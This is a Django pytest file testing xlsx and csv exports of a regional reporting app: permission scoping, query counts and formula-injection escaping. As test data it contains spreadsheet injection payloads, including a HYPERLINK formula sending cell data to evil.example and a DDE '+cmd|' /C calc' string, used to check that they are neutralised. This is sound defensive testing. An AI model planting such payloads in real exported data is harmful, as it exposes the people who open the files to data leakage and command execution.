"""Exports of every list: each list as .xlsx and .csv, limited to what the user
may see, formula-safe with numbers kept numbers, a fixed number of queries as the data grow, and
the registry's 1,924 rows streamed."""

from __future__ import annotations

import csv
import datetime
import io
from decimal import Decimal as D

import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext
from django.utils import timezone
from openpyxl import load_workbook

from audit.models import AuditEvent
from communities import pipeline
from communities.models import Application, Tier
from divisions.models import Region
from kernel.exports import Table, cell, safe_text, to_csv, to_xlsx
from reports.models import CountyReturn, Notification, ReportingPeriod, TaskReport
from reports.services import county_return_open
from tasks.models import Task
from tests.targets_helpers import approve

PERIOD = "2024Q1"
# (url, persona that may read it, export key)
EXPORTS = [
    ("/communities/", "county_a", "registry"),
    ("/communities/applications/", "county_a", "applications"),
    ("/targets/", "leader", "targets"),
    ("/targets/ankang-2022/urban_new_jobs/?quarter=2024Q1", "leader", "counties"),
    ("/targets/ankang-2022/urban_new_jobs/?quarter=2024Q1", "leader", "quarters"),
    (f"/reports/?period={PERIOD}", "city_admin", "returns"),
    (f"/reports/returns/610902000000/{PERIOD}/", "county_a", "figures"),
    (f"/reports/tasks/?period={PERIOD}", "leader", "tasks"),
    (f"/reports/timeliness/?period={PERIOD}", "leader", "departments"),
    (f"/reports/timeliness/?period={PERIOD}", "leader", "counties"),
    ("/reports/notifications/", "county_a", "notifications"),
    ("/audit/", "auditor", "events"),
    ("/admin/api/apiclient/export/{fmt}/", "city_admin", None),
]


def url_for(url: str, key: str | None, fmt: str) -> str:
    if key is None:
        return url.format(fmt=fmt)
    return f"{url}{'&' if '?' in url else '?'}export={key}&format={fmt}"


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))


def xlsx_rows(response) -> list[tuple]:
    ws = load_workbook(io.BytesIO(body(response))).worksheets[0]
    return list(ws.iter_rows(values_only=True))


def _county(name: str) -> Region:
    return Region.objects.get(level="county", name=name)


def _community(county: str, n: int = 0) -> Region:
    return Region.objects.filter(level="village", county__name=county, kind="community").order_by("code")[n]


@pytest.fixture
def data(personas, plan):
    """Figures for two counties, a draft return and a draft application in each of them, a
    notification and an audit event with text a spreadsheet would run."""
    approve("urban_new_jobs", "汉滨区", PERIOD, value=1200)
    approve("urban_new_jobs", "石泉县", PERIOD, value=300)
    period = ReportingPeriod.objects.get(year=2024, quarter=1)
    county_return_open(region=_county("汉滨区"), period=period, user=personas["county_a"])
    county_return_open(region=_county("石泉县"), period=period, user=personas["county_b"])
    tier = Tier.objects.get(rank=1)
    pipeline.application_create(community=_community("汉滨区"), tier=tier, user=personas["county_a"])
    pipeline.application_create(community=_community("石泉县"), tier=tier, user=personas["county_b"],
                                summary="石泉县的草稿")
    Notification.objects.create(recipient=personas["county_a"], kind="due_soon", key="k1",
                                title='=HYPERLINK("http://evil.example/?"&A1,"点击")', body="@SUM(1+1)\t-2")
    Notification.objects.create(recipient=personas["county_b"], kind="due_soon", key="k2", title="石泉县的通知")
    AuditEvent.objects.create(occurred_at=timezone.now(), actor_username="+cmd|' /C calc'!A0", action="changed",
                              model="x", model_verbose_name="记录", object_pk="1", object_repr="-1+2",
                              changes=[{"field": "v", "label": "值", "old": "=1", "new": "2"}], reason="\r=2")
    from api.services import api_client_create
    api_client_create(name="=汉滨区系统", region=_county("汉滨区"), access="read",
                      expires_at=timezone.now() + datetime.timedelta(days=30), created_by=personas["city_admin"])


# ---------------------------------------------------------------- every list, both formats


@pytest.mark.parametrize("url,persona,key", EXPORTS)
def test_every_list_exports_to_xlsx_and_csv(client_for, data, url, persona, key):
    client = client_for(persona)
    xlsx = client.get(url_for(url, key, "xlsx"))
    assert xlsx.status_code == 200, url
    assert xlsx["Content-Type"].startswith("application/vnd.openxmlformats")
    assert "filename*=UTF-8''" in xlsx["Content-Disposition"] and xlsx["X-Content-Type-Options"] == "nosniff"
    sheet = xlsx_rows(xlsx)
    text = client.get(url_for(url, key, "csv"))
    assert text.status_code == 200 and text["Content-Type"].startswith("text/csv")
    rows = csv_rows(text)
    assert len(rows) == len(sheet) >= 2, url  # a header and at least one row, the same in both formats
    assert rows[0] == [str(h) for h in sheet[0]]
    assert all(h and not h.isascii() for h in rows[0]), rows[0]  # Chinese headers


@pytest.mark.parametrize("url,persona,key", EXPORTS)
def test_outsiders_and_anonymous_get_no_file(client_for, data, url, persona, key):
    assert client_for("anonymous").get(url_for(url, key, "csv")).status_code == 302
    response = client_for("outsider").get(url_for(url, key, "csv"))
    if key == "notifications":  # a page that lists what the user may see: for them, nothing
        assert response.status_code == 200 and len(csv_rows(response)) == 1
        return
    assert response.status_code in (302, 403, 404)
    assert "text/csv" not in response.get("Content-Type", "")


def test_unknown_table_or_format_is_a_404(client_for, data):
    assert client_for("county_a").get("/communities/?export=nope&format=csv").status_code == 404
    assert client_for("county_a").get("/communities/?export=registry&format=exe").status_code == 404
    assert client_for("city_admin").get("/admin/api/apiclient/export/exe/").status_code == 404


def test_pages_link_their_exports_with_the_filters_kept(client_for, data):
    html = client_for("county_a").get("/communities/?county=610902000000&kind=community&page=2").content.decode()
    assert "county=610902000000&amp;kind=community&amp;export=registry&amp;format=xlsx" in html
    assert "page=2&amp;export" not in html and "导出" in html
    admin = client_for("city_admin").get("/admin/api/apiclient/").content.decode()
    assert "/admin/api/apiclient/export/xlsx/" in admin and "导出为Excel" in admin


# ---------------------------------------------------------------- scoping


def test_county_a_export_has_none_of_county_b_drafts(client_for, data):
    client = client_for("county_a")
    applications = csv_rows(client.get("/communities/applications/?export=applications&format=csv"))
    assert {r[1] for r in applications[1:]} == {"汉滨区"}
    assert all("石泉县" not in ",".join(r) for r in applications)
    returns = csv_rows(client.get(f"/reports/?period={PERIOD}&export=returns&format=csv"))
    assert [r[2] for r in returns[1:]] == ["汉滨区"] and returns[1][3] == "草稿"
    # another county's return answers like a missing one, file or page
    assert client.get(f"/reports/returns/610925000000/{PERIOD}/?export=figures&format=csv").status_code == 404
    notes = csv_rows(client.get("/reports/notifications/?export=notifications&format=csv"))
    assert len(notes) == 2 and "石泉县" not in notes[1][2]
    # the city sees both counties' drafts
    everything = csv_rows(client_for("city_admin").get("/communities/applications/?export=applications&format=csv"))
    assert {r[1] for r in everything[1:]} == {"汉滨区", "石泉县"}


def test_audit_and_api_clients_exports_are_for_their_readers_only(client_for, data):
    for persona in ("city_admin", "leader", "county_a"):
        assert client_for(persona).get("/audit/?export=events&format=csv").status_code == 404
    for persona in ("leader", "county_a", "auditor"):
        response = client_for(persona).get("/admin/api/apiclient/export/csv/")
        assert response.status_code in (302, 403), persona
    rows = csv_rows(client_for("city_admin").get("/admin/api/apiclient/export/csv/"))
    assert rows[1][0] == "'=汉滨区系统" and rows[1][1] == "汉滨区"
    assert all("hash" not in h.lower() for h in rows[0])


def test_export_follows_the_page_filters(client_for, data):
    rows = csv_rows(client_for("county_a").get("/communities/?county=610902000000&kind=community"
                                               "&export=registry&format=csv"))
    hanbin = Region.objects.filter(level="village", county__code="610902000000", kind="community").count()
    assert len(rows) - 1 == hanbin and {r[3] for r in rows[1:]} == {"汉滨区"}


# ---------------------------------------------------------------- formula injection


def test_malicious_cells_are_escaped_and_numbers_stay_numbers(client_for, data):
    response = client_for("county_a").get("/reports/notifications/?export=notifications&format=csv")
    row = csv_rows(response)[1]
    assert row[2] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击\")"
    assert row[3] == "'@SUM(1+1)\t-2"  # escaped at the start, the rest left exactly as typed
    sheet = load_workbook(io.BytesIO(body(client_for("county_a").get(
        "/reports/notifications/?export=notifications&format=xlsx")))).worksheets[0]
    assert sheet["C2"].value.startswith("'=HYPERLINK") and sheet["C2"].data_type == "s"
    audit = csv_rows(client_for("auditor").get("/audit/?export=events&format=csv"))
    mine = next(r for r in audit if r[5] == "'-1+2")
    assert mine[1] == "'+cmd|' /C calc'!A0" and mine[7] == "'\r=2"
    figures = xlsx_rows(client_for("leader").get("/targets/ankang-2022/urban_new_jobs/?quarter=2024Q1"
                                                 "&export=counties&format=xlsx"))
    hanbin = next(r for r in figures if r[1] == "汉滨区")
    assert hanbin[3] == 1200 and isinstance(hanbin[3], (int, float))  # a number, not text


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@A1", "\tx", "\rx", "\nx"])
def test_every_formula_start_is_neutralised(text):
    assert safe_text(text) == "'" + text
    table = Table("t", "表", ["名称", "值"], [[text, D("-3.5")], [None, -2]])
    rows = list(csv.reader(io.StringIO(to_csv(table).decode("utf-8-sig"), newline="")))
    assert rows[1] == ["'" + text, "-3.5"] and rows[2] == ["", "-2"]
    ws = load_workbook(io.BytesIO(to_xlsx(table))).active
    # (XML may read a carriage return back as a line feed: openpyxl's parser does, lxml's does not)
    assert ws["A2"].value in ("'" + text, "'" + text.replace("\r", "\n")) and ws["A2"].data_type == "s"
    assert ws["B2"].value == -3.5 and ws["B3"].value == -2 and ws["A3"].value is None
    assert cell("汉滨区") == "汉滨区" and cell(D("-1")) == D("-1")


def test_control_characters_a_workbook_cannot_hold_do_not_break_it():
    ws = load_workbook(io.BytesIO(to_xlsx(Table("t", "表", ["a"], [["bad\x00\x07name"]])))).active
    assert ws["A2"].value == "badname"


# ---------------------------------------------------------------- queries do not grow


def grow(n: int, personas) -> None:
    """n more of everything the exports list: applications, returns, task reports, notifications,
    audit events (for the scoped personas' counties and the city)."""
    tier = Tier.objects.get(rank=1)
    admin = personas["city_admin"]
    taken = set(Application.objects.values_list("community_id", flat=True))
    communities = [c for c in Region.objects.filter(level="village", county__name__in=["汉滨区", "石泉县"])
                   .order_by("code")[:n + len(taken)] if c.pk not in taken][:n]
    Application.objects.bulk_create([Application(community=c, county_id=c.county_id, tier=tier, created_by=admin,
                                                 updated_at=timezone.now()) for c in communities])
    periods = list(ReportingPeriod.objects.order_by("year", "quarter")[:n])
    counties = list(Region.objects.filter(level="county"))
    CountyReturn.objects.bulk_create([CountyReturn(region=c, period=p, state="submitted", submitted_by=admin,
                                                   updated_by=admin, first_submitted_at=timezone.now())
                                      for c in counties for p in periods], ignore_conflicts=True)
    tasks = list(Task.objects.filter(kind="task"))
    TaskReport.objects.bulk_create([TaskReport(task=t, period=p, state="approved", first_submitted_at=timezone.now(),
                                               reviewed_by=admin, submitted_by=admin)
                                    for t in tasks for p in periods], ignore_conflicts=True)
    start = Notification.objects.count()
    Notification.objects.bulk_create([Notification(recipient=personas["county_a"], kind="overdue",
                                                   key=f"grow-{start + i}", title=f"通知 {i}") for i in range(n)])
    AuditEvent.objects.bulk_create([AuditEvent(occurred_at=timezone.now(), actor=admin, actor_username="a",
                                               action="changed", model="m", model_verbose_name="记录",
                                               object_pk=str(i), object_repr=f"r{i}") for i in range(n)])
    from api.services import api_client_create
    for i in range(max(1, n // 10)):
        api_client_create(name=f"系统 {start}-{i}", region=counties[i % len(counties)], access="read",
                          expires_at=timezone.now() + datetime.timedelta(days=30), created_by=admin)


def count_queries(client, url: str) -> int:
    # the request resets the connection's query log (request_started): start it empty so that
    # the context's slice of the log is exactly this request's queries
    connection.queries_log.clear()
    with CaptureQueriesContext(connection) as ctx:
        response = client.get(url)
        assert response.status_code == 200, url
        body(response)  # a streamed file runs its queries while it is read
    return len(ctx)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_queries_per_export_do_not_grow_with_the_data(client_for, data, personas, fmt):
    urls = [(url_for(u, k, fmt), p) for u, p, k in EXPORTS]
    clients = {p: client_for(p) for _u, p in urls}
    grow(3, personas)
    small = {u: count_queries(clients[p], u) for u, p in urls}
    grow(40, personas)
    large = {u: count_queries(clients[p], u) for u, p in urls}
    assert large == small
    assert min(small.values()) >= 3 and max(small.values()) <= 30, small


# ---------------------------------------------------------------- the registry: 1,924 rows, streamed


def test_the_whole_registry_streams_as_csv_and_fits_one_workbook(client_for, data):
    client = client_for("county_a")
    connection.queries_log.clear()
    with CaptureQueriesContext(connection) as ctx:
        response = client.get("/communities/?export=registry&format=csv")
        assert isinstance(response, StreamingHttpResponse)
        rows = csv_rows(response)
    assert 3 <= len(ctx) <= 12  # one query for the rows however many, not one per row
    total = Region.objects.filter(level="village").count()
    assert total == 1924 and len(rows) == 1 + total
    codes = [r[0] for r in rows[1:]]
    assert codes == sorted(codes) and len(set(codes)) == total
    sheet = xlsx_rows(client.get("/communities/?export=registry&format=xlsx"))
    assert len(sheet) == 1 + total and sheet[1][0] == rows[1][0]
